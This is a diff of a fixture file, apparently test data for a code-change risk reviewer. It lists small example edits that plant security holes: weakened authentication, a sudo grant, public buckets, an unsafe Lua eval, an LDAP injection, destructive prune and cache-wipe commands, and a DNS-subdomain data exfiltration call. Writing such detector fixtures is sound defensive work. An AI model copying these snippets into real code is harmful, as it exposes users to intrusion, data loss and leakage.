@@ -5,262 +5,232 @@ const change = (name, path, added, removed = [], more = {}) => ({ name, path, ad
 export const heldFresh = [
   // authentication
   change(
-    'pam result ignored',
-    'src/pam_check.c',
-    ['    pam_authenticate(h, 0);'],
-    ['    if (pam_authenticate(h, 0) != PAM_SUCCESS)', '        return -1;'],
+    'api key compared by prefix',
+    'lib/api_auth.ex',
+    ['    if String.starts_with?(stored, given), do: {:ok, user}'],
+    ['    if Plug.Crypto.secure_compare(stored, given), do: {:ok, user}'],
   ),
   change(
-    'remember-me for a year',
-    'src/main/java/app/WebSecurity.java',
-    ['            .rememberMe(r -> r.tokenValiditySeconds(31536000).alwaysRemember(true))'],
-    ['            .rememberMe(r -> r.tokenValiditySeconds(86400))'],
-  ),
-  change(
-    'password reset without a token',
-    'app/controllers/passwords_controller.rb',
-    ['    user = User.find_by(email: params[:email])'],
+    'biometric fallback',
+    'App/LoginViewModel.swift',
     [
-      '    user = User.find_by(reset_token: params[:token])',
-      '    return head :forbidden unless user&.reset_token_valid?',
+      '        context.evaluatePolicy(.deviceOwnerAuthentication, localizedReason: reason) { _, _ in self.login(user) }',
+    ],
+    [
+      '        context.evaluatePolicy(.deviceOwnerAuthenticationWithBiometrics, localizedReason: reason) { ok, _ in if ok { self.login(user) } }',
     ],
   ),
   change(
-    'devise not asked',
-    'app/controllers/reports_controller.rb',
+    'oauth state not compared',
+    'src/auth/callback.ts',
+    ['  const tokens = await client.exchange(code);'],
+    [
+      '  if (query.state !== session.oauthState) throw new Error("state");',
+      '  const tokens = await client.exchange(code);',
+    ],
+  ),
+  change(
+    'session fixed',
+    'app/Http/Controllers/SessionController.php',
     [],
-    ['  before_action :authenticate_user!'],
+    ['        $request->session()->regenerate();'],
   ),
   // authorisation
+  change('sudo for a group', 'packaging/sudoers.d/app', ['%app ALL=(ALL) NOPASSWD: ALL']),
   change(
-    'route without its guard',
-    'src/router/index.ts',
-    ["  { path: '/admin', component: Admin },"],
-    ["  { path: '/admin', component: Admin, meta: { requiresAdmin: true } },"],
+    'superuser shortcut',
+    'lib/perm.lua',
+    ['  if user.role ~= nil then return true end'],
+    ['  if user.role == "admin" then return true end'],
   ),
   change(
-    'tenant filter gone',
-    'api/queries.py',
-    ['    return session.query(Invoice).filter(Invoice.id == invoice_id).one()'],
-    [
-      '    return session.query(Invoice).filter(Invoice.id == invoice_id, Invoice.tenant_id == tenant.id).one()',
-    ],
+    'graphql field without directive',
+    'src/schema.ts',
+    ['    salary: Int'],
+    ['    salary: Int @auth(requires: HR)'],
   ),
-  change(
-    'capability checked too late',
-    'security/ops.c',
-    [],
-    ['\tif (!capable(CAP_NET_ADMIN))', '\t\treturn -EPERM;'],
-  ),
-  change(
-    'mass assignment',
-    'app/controllers/users_controller.rb',
-    ['    @user.update(params[:user].permit!)'],
-    ['    @user.update(params.require(:user).permit(:name))'],
-  ),
+  change('bucket for everybody', 'infra/storage.py', ['    bucket.make_public(recursive=True)']),
   // secrets
-  change('credentials in a manifest of code', 'deploy/main.tf.ts', [
-    "const db = { username: 'app', password: 'Tr0ub4dor&3x' };",
+  change('key file committed', 'certs/server.key', [
+    '-----BEGIN PRIVATE KEY-----',
+    'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7',
   ]),
-  change('webhook address with its secret', 'src/notify.go', [
-    '\tconst hook = "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"',
+  change('token in a shell trace', 'ci/deploy.sh', [
+    'set -x',
+    'curl -H "Authorization: token $DEPLOY_TOKEN" "$URL"',
   ]),
-  change('request headers logged', 'src/middleware/log.js', [
-    '  console.log(req.method, req.url, req.headers.authorization);',
+  change('secret in an exception', 'src/Vault.kt', [
+    '        throw IllegalStateException("cannot open with secret $secret")',
   ]),
   // cryptography
   change(
-    'mode without integrity',
-    'lib/box.py',
-    ['    cipher = AES.new(key, AES.MODE_ECB)'],
-    ['    cipher = AES.new(key, AES.MODE_GCM, nonce=nonce)'],
-  ),
-  change('host names not checked', 'src/Client.cs', [
-    '        handler.ServerCertificateCustomValidationCallback = (m, c, ch, e) => true;',
-  ]),
-  change(
-    'fewer rounds',
-    'src/hash.go',
-    ['\th, err := bcrypt.GenerateFromPassword(pw, 4)'],
-    ['\th, err := bcrypt.GenerateFromPassword(pw, 12)'],
+    'signature of the wrong part',
+    'src/verify.rs',
+    ['    public_key.verify(&body[..16], &signature)?;'],
+    ['    public_key.verify(&body, &signature)?;'],
   ),
   change(
-    'old protocol allowed',
-    'src/server.rs',
-    ['    builder.set_min_proto_version(Some(SslVersion::TLS1))?;'],
-    ['    builder.set_min_proto_version(Some(SslVersion::TLS1_2))?;'],
+    'seeded generator',
+    'src/Tokens.cs',
+    ['        var random = new Random(42); var token = random.Next().ToString("x");'],
+    ['        var token = Convert.ToHexString(RandomNumberGenerator.GetBytes(32));'],
+  ),
+  change(
+    'digest compared early',
+    'lib/Digest.pm',
+    ['    return $given eq $expected;'],
+    ['    return constant_time_eq($given, $expected);'],
+  ),
+  change(
+    'key length halved',
+    'keys/gen.go',
+    ['	key, err := rsa.GenerateKey(rand.Reader, 1024)'],
+    ['	key, err := rsa.GenerateKey(rand.Reader, 4096)'],
   ),
   // payments
   change(
-    'discount twice',
-    'shop/pricing.py',
-    ['    total_due = total_due - discount_due - discount_due'],
-    ['    total_due = total_due - discount_due'],
+    'negative quantity',
+    'src/cart/total.ts',
+    ['  const totalCents = lines.reduce((sum, l) => sum + l.priceCents * l.quantity, 0);'],
+    [
+      '  if (lines.some((l) => l.quantity < 1)) throw new Error("quantity");',
+      '  const totalCents = lines.reduce((sum, l) => sum + l.priceCents * l.quantity, 0);',
+    ],
   ),
   change(
-    'payout to a field of the form',
-    'src/payouts.ts',
-    ['  await stripe.transfers.create({ amount, destination: form.account });'],
-    ['  await stripe.transfers.create({ amount, destination: seller.account });'],
-  ),
-  change(
-    'currency by float',
-    'src/Billing/Charge.php',
-    ['        $gateway->charge((float) $order->total * 1.0);'],
-    ['        $gateway->charge(Money::of($order->total));'],
+    'capture before the order',
+    'app/services/checkout.rb',
+    ['    gateway.capture(authorization)'],
+    ['    order.save! && gateway.capture(authorization)'],
   ),
   // personal data
-  change(
-    'whole user in an answer',
-    'src/api/profile.ts',
-    ['  res.json({ ...user, dateOfBirth: user.dateOfBirth, ssn: user.ssn });'],
-    ['  res.json({ name: user.name });'],
-  ),
-  change('addresses to a tracker', 'web/app.js', [
-    "  gtag('event', 'login', { email: user.email, phone: user.phone });",
+  change('location kept', 'app/src/main/java/Tracker.java', [
+    '        store.save(user.getId(), location.getLatitude(), location.getLongitude());',
   ]),
-  change(
-    'pseudonyms given up',
-    'jobs/export.scala',
-    ['    rows.map(r => r.copy(user = r.user))'],
-    ['    rows.map(r => r.copy(user = pseudonymize(r.user)))'],
-  ),
+  change('birthday in the address', 'src/share.js', [
+    '  const link = `/card?name=${p.name}&date_of_birth=${p.date_of_birth}`;',
+  ]),
   // deletion
+  change('prune all', 'ops/clean.sh', ['docker system prune -af --volumes']),
+  change('orphans', 'src/Cleanup.php', ['        array_map("unlink", glob($dir . "/*"));']),
   change(
-    'cascade',
-    'src/models/account.ts',
-    ['    await this.repo.delete({});'],
-    ['    await this.repo.delete({ id: account.id });'],
+    'keys of all tenants',
+    'cache/clear.py',
+    ['    redis.delete(*redis.keys("*"))'],
+    ['    redis.delete(*redis.keys(f"{tenant}:*"))'],
   ),
-  change('find with delete', 'scripts/rotate.sh', ['find "$LOGS" -type f -delete']),
-  change('lifecycle of a minute', 'tools/gc.rs', ['    std::fs::remove_dir_all(root.join(name))?;']),
   // parsing of untrusted input
   change(
-    'length trusted',
-    'net/parse.c',
-    ['\tbuf = malloc(hdr->len + 1);', '\tmemcpy(buf, hdr->data, hdr->len);'],
-    [
-      '\tif (hdr->len > MAX_LEN)',
-      '\t\treturn NULL;',
-      '\tbuf = malloc(hdr->len + 1);',
-      '\tmemcpy(buf, hdr->data, hdr->len);',
-    ],
+    'shell in perl',
+    'bin/thumb.pl',
+    ['    `convert $file -resize 100 $out`;'],
+    ["    system('convert', $file, '-resize', '100', $out);"],
   ),
   change(
-    'archive unpacked anywhere',
-    'lib/unpack.py',
-    ['    tarfile.open(path).extractall(target)'],
-    ["    tarfile.open(path).extractall(target, filter='data')"],
+    'stack buffer',
+    'src/conf.c',
+    ['    char line[64]; fscanf(f, "%s", line);'],
+    ['    char line[64]; fscanf(f, "%63s", line);'],
   ),
-  change('regular expression from a query', 'src/search.js', ['  const re = new RegExp(req.query.q);']),
-  change('redirect anywhere', 'app/views.py', ['    return redirect(request.GET["next"])']),
-  change('server fetches an address of the user', 'src/preview.go', [
-    '\tresp, err := http.Get(r.FormValue("url"))',
+  change('lua from a string', 'plugin/run.lua', ['  return loadstring(request.body)()']),
+  change(
+    'index from a packet',
+    'src/table.cpp',
+    ['    return table[index];'],
+    ['    if (index >= table.size()) return nullptr;', '    return table[index];'],
+  ),
+  change(
+    'raw fragment',
+    'src/Comment.jsx',
+    ['  return <p ref={(n) => { n.innerHTML = text; }} />;'],
+    ['  return <p>{text}</p>;'],
+  ),
+  change('ldap filter', 'src/Directory.java', [
+    '        String filter = "(uid=" + name + ")"; ctx.search(base, filter, controls);',
   ]),
-  change(
-    'unsafe block',
-    'src/parse.rs',
-    ['    let s = unsafe { std::str::from_utf8_unchecked(bytes) };'],
-    ['    let s = std::str::from_utf8(bytes)?;'],
-  ),
-  change(
-    'jinja not escaping',
-    'web/render.py',
-    ['env = Environment(loader=loader, autoescape=False)'],
-    ['env = Environment(loader=loader, autoescape=True)'],
-  ),
+  change('deserialised with types', 'src/Json.cs', [
+    '        settings.TypeNameHandling = TypeNameHandling.All;',
+  ]),
+  change('header from a value', 'web/download.php', [
+    '    header("Content-Disposition: attachment; filename=" . $_GET["name"]);',
+  ]),
   // sandbox and permission code
   change(
-    'iframe may do all',
-    'src/embed.tsx',
-    ['    <iframe src={url} sandbox="allow-scripts allow-same-origin allow-top-navigation" />'],
-    ['    <iframe src={url} sandbox="" />'],
+    'user namespaces for all',
+    'src/launch.rs',
+    ['    args.push("--dev-bind"); args.push("/"); args.push("/");'],
+    ['    args.push("--unshare-all");'],
   ),
   change(
-    'capabilities kept',
-    'src/daemon.c',
-    [],
-    ['\tif (setgroups(0, NULL) || setgid(gid) || setuid(uid))', '\t\texit(1);'],
+    'electron asks nobody',
+    'src/main/session.ts',
+    ['  session.setPermissionRequestHandler((_, __, done) => done(true));'],
+    ['  session.setPermissionRequestHandler((_, what, done) => done(allowed.has(what)));'],
   ),
-  change('umask off', 'daemon/start.py', ['    os.umask(0)']),
+  change('profile unconfined', 'deploy/pod.ts', [
+    "  securityContext: { seccompProfile: { type: 'Unconfined' } },",
+  ]),
   // build, CI, install script, guardrail, test, judge, vault, policy configuration
-  change('secrets for pull requests', '.github/workflows/test.yml', [
-    '        env: { TOKEN: "${{ secrets.TOKEN }}" }',
-  ]),
-  change('registry moved', '.npmrc', ['registry=https://packages.mirror.example.net/']),
+  change('continue on error', '.github/workflows/build.yml', ['        continue-on-error: true']),
   change(
-    'tests left out',
-    'pyproject.toml',
-    ['addopts = "-k not slow --maxfail=1000"'],
-    ['addopts = "--strict-markers"'],
+    'checksum no longer asked',
+    'Dockerfile',
+    ['RUN curl -fsSL $URL | tar xz'],
+    ['RUN curl -fsSL $URL -o a.tgz && sha256sum -c a.sum && tar xf a.tgz'],
   ),
-  change('hook in setup', 'setup.py', ['cmdclass={"install": PostInstall},']),
   change(
-    'pods may be privileged',
-    'policies/pods.rego',
-    ['allow { true }'],
-    ['allow { not input.spec.privileged }'],
+    'type checks off',
+    'tsconfig.base.json',
+    ['    "noImplicitAny": false,'],
+    ['    "noImplicitAny": true,'],
   ),
-  change('a build step of somebody', 'pom.xml', ['      <artifactId>exec-maven-plugin</artifactId>']),
+  change('lint of one folder', 'package.json', ['    "lint": "eslint src/a",'], ['    "lint": "eslint .",']),
+  change('scenarios thinned', 'scenarios/refund.md', [], ['- a refund over the amount is refused']),
   // schema or data migration
-  change('table goes', 'db/migrate/20260301_drop_audit.rb', ['    drop_table :audit_events']),
-  change('type narrowed', 'migrations/0007_narrow.sql', [
-    'ALTER TABLE orders ALTER COLUMN note TYPE varchar(20);',
+  change('column in mongo', 'migrations/2026-02-rename.js', [
+    "  await db.collection('users').updateMany({}, { $unset: { phone: '' } });",
   ]),
+  change(
+    'key changed',
+    'db/schema.rb',
+    ['    t.string "email", null: true'],
+    ['    t.string "email", null: false'],
+  ),
   // tests and suppressions
   change(
-    'case deleted',
-    'internal/cart/cart_test.go',
-    [],
-    [
-      'func TestNegativeAmount(t *testing.T) {',
-      '\tif Total(-1) != 0 {',
-      '\t\tt.Fatal("negative")',
-      '\t}',
-      '}',
-    ],
+    'wait instead of ask',
+    'test/e2e/cart.spec.ts',
+    ['    await page.waitForTimeout(500);'],
+    ["    await expect(page.getByText('19.00')).toBeVisible();"],
   ),
-  change(
-    'expectation weakened',
-    'tests/api.test.ts',
-    ['    expect(response.status).toBeTruthy();'],
-    ['    expect(response.status).toBe(403);'],
-  ),
-  change('retried until green', 'playwright.config.ts', ['  retries: 10,'], ['  retries: 0,']),
-  change('warnings of the compiler off', 'src/parse.c', [
-    '#pragma GCC diagnostic ignored "-Wformat-security"',
-  ]),
-  change('ignored by bandit', 'app/run.py', ['    subprocess.call(cmd, shell=True)  # nosec']),
+  change('mocked away', 'tests/test_pay.py', [], ['    assert gateway.charged == [1900]']),
+  change('ignored in kotlin', 'src/main/kotlin/A.kt', ['@Suppress("UNCHECKED_CAST")']),
+  change('unwrap allowed', 'src/io.rs', ['#[allow(clippy::unwrap_used)]']),
   // privileged surface
-  change(
-    'a flag that skips checks',
-    'cmd/root.go',
-    ['\tflags.BoolVar(&skip, "insecure-skip-verify", false, "")'],
-    [],
-    {
-      surface: [
-        { kind: 'flag', name: 'insecure-skip-verify', privileged: true, breaking: false, named: false },
-      ],
-    },
-  ),
-  change('an endpoint for everybody', 'src/routes.py', ['@app.route("/debug/env")'], [], {
-    surface: [{ kind: 'endpoint', name: '/debug/env', privileged: true, breaking: false, named: false }],
+  change('a command that runs hooks', 'src/cli.ts', ["  command('exec-hook <file>')"], [], {
+    surface: [{ kind: 'command', name: 'exec-hook', privileged: true, breaking: false, named: false }],
+  }),
+  change('a permission of the extension', 'manifest.json', ['    "<all_urls>",'], [], {
+    surface: [{ kind: 'permission', name: '<all_urls>', privileged: true, breaking: false, named: false }],
   }),
   // new egress
-  change('usage sent home', 'src/telemetry.rs', [
-    '    ureq::post("https://t.usage-metrics.dev/v1/e").send_json(&event)?;',
+  change('dns as a way out', 'src/ping.py', [
+    '    requests.get("https://" + data + ".dns.lookup-stats.net")',
   ]),
-  change('a socket to a name', 'lib/Sync.java', [
-    '        Socket s = new Socket("relay.example-sync.com", 8443);',
+  change('grpc to elsewhere', 'internal/rpc/dial.go', [
+    '	conn, err := grpc.Dial("collector.obs-cloud.io:443", opts...)',
+  ]),
+  change('a second mirror', 'Sources/Fetch.swift', [
+    '    let url = URL(string: "https://cdn.assets-mirror.app/pkg")!',
   ]),
   // binary content
-  change('a model file that runs', 'models/rank.pkl', ['\u0000']),
-  change('invisible letters', 'src/check.go', ['\tif role != "admin\u2066" {']),
+  change('an archive', 'vendor-tools/tool.tar.gz', ['\u0000']),
+  change('minified by hand', 'src/boot.ts', ['!function(){' + 'var a=0;'.repeat(400) + '}()']),
   // incomplete provenance
-  change('a commit without its run', 'lib/a.rb', ['  x'], [], {
-    provenance: ['1 of 2 commits of the result were not recorded by this run'],
+  change('rewritten history', 'src/b.py', ['    return 1'], [], {
+    provenance: ['the recorded commit is not part of the branch any more'],
   }),
-  change('the base is another', 'src/a.rs', ['fn a() {}'], [], {
-    provenance: ['the recorded base is not where the branch began'],
+  change('somebody else committed', 'src/c.go', ['\tx++'], [], {
+    provenance: ['2 of 4 commits of the result were not recorded by this run'],
   }),
 ];
